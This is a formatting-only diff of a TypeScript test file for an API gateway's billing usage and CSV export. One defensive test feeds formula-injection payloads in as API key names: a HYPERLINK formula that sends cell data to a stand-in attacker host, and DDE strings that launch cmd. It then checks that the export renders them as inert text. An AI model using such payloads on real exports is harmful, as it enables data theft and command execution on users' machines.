@@ -1,9 +1,9 @@
 // Usage analytics, CSV export and low-balance notices against the real server and fake upstream.
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
-import { readdirSync, readFileSync, existsSync } from 'node:fs'
+import { existsSync, readdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { eventually, startGateway } from '../test-support/gateway'
-import { moscowDay, moscowDayStart, daysBetween } from './days'
+import { daysBetween, moscowDay, moscowDayStart } from './days'
 import { splitPeriod } from './usage'
 import { csvField, csvText } from './usage-export'
 
@@ -41,10 +41,10 @@ describe('GET /api/billing/usage', () => {
     const res = await c.api.get('/api/billing/usage?limit=20', c.accessToken)
     expect(res.status).toBe(200)
     const d = res.body.data
-    const rows = (await gw.read<{ model: string; cost_micros: number; total_tokens: number; api_key_id: string | null }>(
+    const rows = await gw.read<{ model: string; cost_micros: number; total_tokens: number; api_key_id: string | null }>(
       'select model, cost_micros, total_tokens, api_key_id from usage_logs where user_id = ?',
       c.user.id,
-    ))
+    )
     const cost = rows.reduce((s, r) => s + r.cost_micros, 0)
     expect(d.totalCost).toBe(cost / 1e6)
     expect(d.totalTokens).toBe(rows.reduce((s, r) => s + r.total_tokens, 0))
@@ -140,14 +140,17 @@ describe('GET /api/billing/usage', () => {
 describe('CSV export against formula injection (OWASP)', () => {
   test('key names starting with = + - @ are exported as inert text; our numbers stay numbers', async () => {
     const c = await gw.customer()
-    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Нажми")', '+7 (495) 000-00-00', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0']
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Нажми")', '+7 (495) 000-00-00', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
     for (const name of names) {
       const k = await c.api.post('/api/auth/api-keys', { name }, c.accessToken)
       expect(k.status).toBe(201)
       await chat(k.body.data.key, 'openai/gpt-3.5-turbo')
     }
     const res = await fetch(`${gw.url}/api/billing/usage/export?format=csv`, { headers: { authorization: `Bearer ${c.accessToken}` } })
-    const lines = new TextDecoder().decode(new Uint8Array(await res.arrayBuffer()).slice(3)).split('\r\n').slice(1, -1)
+    const lines = new TextDecoder()
+      .decode(new Uint8Array(await res.arrayBuffer()).slice(3))
+      .split('\r\n')
+      .slice(1, -1)
     expect(lines).toHaveLength(names.length)
     // Parse each line as RFC 4180 and look at the key column.
     const cells = (line: string) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replaceAll('""', '"')).slice(0, 11)
